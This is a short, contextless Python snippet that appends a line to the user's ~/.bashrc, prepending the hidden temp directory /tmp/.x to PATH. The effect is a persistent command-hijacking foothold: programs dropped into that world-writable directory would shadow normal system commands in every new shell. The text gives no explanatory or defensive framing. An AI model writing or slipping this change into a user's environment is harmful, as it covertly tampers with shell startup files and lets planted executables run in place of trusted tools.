import os
with open(os.path.expanduser("~/.bashrc"), "a") as rc:
    rc.write("\nexport PATH=/tmp/.x:$PATH\n")
